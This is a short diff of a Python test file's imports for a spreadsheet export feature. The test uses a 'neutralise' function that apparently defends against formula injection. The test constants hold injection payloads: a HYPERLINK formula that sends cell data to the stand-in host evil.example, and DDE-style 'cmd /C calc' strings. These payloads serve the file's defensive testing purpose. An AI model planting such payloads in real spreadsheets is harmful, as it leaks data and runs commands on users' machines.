@@ -9,10 +9,10 @@ import io
 
 from openpyxl import load_workbook
 
+from catalogue.export_files import write_export
 from catalogue.spreadsheet import neutralise
 from tests.auth_helpers import make_moderator, make_user
 from tests.web.cto.conftest import log_in, make_territory
-from web.commands.export import write_export
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
 OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
